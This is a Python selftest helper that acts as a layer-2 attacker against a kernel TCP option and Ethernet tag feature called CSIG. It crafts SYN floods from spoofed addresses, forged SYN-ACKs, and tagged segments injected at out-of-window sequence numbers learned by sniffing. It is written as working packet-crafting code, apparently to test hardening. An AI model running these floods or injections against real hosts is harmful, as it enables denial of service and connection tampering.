#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""An attacker on the L2 domain (selftests/vm/csig_hardening.sh).

    csig_attack.py synflood IFACE DSTMAC DST DPORT COUNT [RATE]
        COUNT SYNs offering CSIG to DST:DPORT from spoofed sources (random
        addresses of DST's /24 above .100, or of 2001:db8::/64, random ports
        and sequence numbers), RATE a second (default 500)
    csig_attack.py synack IFACE DSTMAC SRC SPORT DST DPORT
        a SYN-ACK SRC:SPORT -> DST:DPORT accepting CSIG, its ACK number
        random (not DST's ISN + 1)
    csig_attack.py tags IFACE SNIFF DSTMAC SRC SPORT DST DPORT COUNT
        wait on SNIFF for an ACK DST:DPORT -> SRC:SPORT, then send COUNT
        segments of that connection toward DSTMAC, each in a tag of type 5
        (S 31, LM 99), at sequence numbers half the sequence space away
        from the one acknowledged (random within that half), half of them
        acknowledging what the ACK's sender sent and half a random number

The TPIDs, the tag layout and the option's kind and ExID are read from
include/csig.h and include/csig_opt.h, which own them.
"""
import random
import struct
import sys

import pkt
from csig_consts import consts

C = consts()
TPC = C["CSIG_TPID_COMPACT"]
KIND, EXID = C["CSIG_OPT_KIND"], C["CSIG_OPT_EXID"]
OFFER = struct.pack("!BBH", 2, 4, 1460) + \
    struct.pack("!BBH", KIND, 4, EXID)          # MSS 1460, the offer


def spoofed(dst):
    if ":" in dst:
        return "2001:db8::%x:%x" % (random.randint(1, 0xffff),
                                    random.randint(1, 0xffff))
    return ".".join(dst.split(".")[:3] + [str(random.randint(101, 250))])


def header(iface, mac, addr, tag=b""):
    """The Ethernet header of frames from @iface to @mac carrying a packet
    of @addr's family, with @tag (a TPID and its tag) before the type."""
    return pkt.eth(mac, pkt.ifmac(iface)) + tag + pkt.ethertype(addr)


def synflood(iface, mac, dst, dport, count, rate=500):
    eth, frames = header(iface, mac, dst), []
    for _ in range(int(count)):
        src = spoofed(dst)
        frames.append(eth + pkt.ip(src, dst, pkt.tcp(
            src, dst, random.randint(1024, 65535), int(dport),
            random.getrandbits(32), 0, pkt.SYN, OFFER, win=8192)))
    pkt.send(iface, frames, float(rate))


def synack(iface, mac, src, sport, dst, dport):
    pkt.send(iface, [header(iface, mac, src) + pkt.ip(src, dst, pkt.tcp(
        src, dst, int(sport), int(dport), random.getrandbits(32),
        random.getrandbits(32), pkt.SYN | pkt.ACK, OFFER, win=8192))])


def compact_tag(typ, s, lm):
    """The compact tag's 16 bits, from include/csig.h's layout."""
    f = C
    v = ((typ & f["CSIG_COMPACT_T_MASK"]) << f["CSIG_COMPACT_T_SHIFT"]) | \
        ((s & f["CSIG_COMPACT_S_MASK"]) << f["CSIG_COMPACT_S_SHIFT"]) | \
        (lm & f["CSIG_COMPACT_LM_MASK"])
    return v.to_bytes(2, "big")


def tags(iface, sniff_if, mac, src, sport, dst, dport, count):
    # the connection's data frames are tagged: learn its sequence numbers
    # from the receiver's ACKs, which are not
    def acks(p):
        return p["sport"] == int(dport) and p["dport"] == int(sport)

    seen = pkt.sniff(sniff_if, acks, 1, 20)
    if not seen:
        sys.exit("no segment of the connection seen")
    seq, ack = seen[0]["ack"], seen[0]["seq"]
    tag = TPC.to_bytes(2, "big") + compact_tag(5, 31, 99)
    eth, frames = header(iface, mac, src, tag), []
    for i in range(int(count)):
        s = (seq + (1 << 31) + random.randint(-(1 << 29), 1 << 29)) & 0xffffffff
        a = ack if i % 2 == 0 else random.getrandbits(32)
        seg = pkt.ip(src, dst, pkt.tcp(src, dst, int(sport), int(dport), s, a,
                                       pkt.ACK, payload=b"x" * 100, win=8192))
        frames.append(eth + seg)
    pkt.send(iface, frames)
    print("seen seq %u ack %u" % (seq, ack))


cmd = sys.argv[1]
if cmd == "synflood":
    synflood(*sys.argv[2:8])
elif cmd == "synack":
    synack(*sys.argv[2:8])
elif cmd == "tags":
    tags(*sys.argv[2:10])
else:
    sys.exit(__doc__)
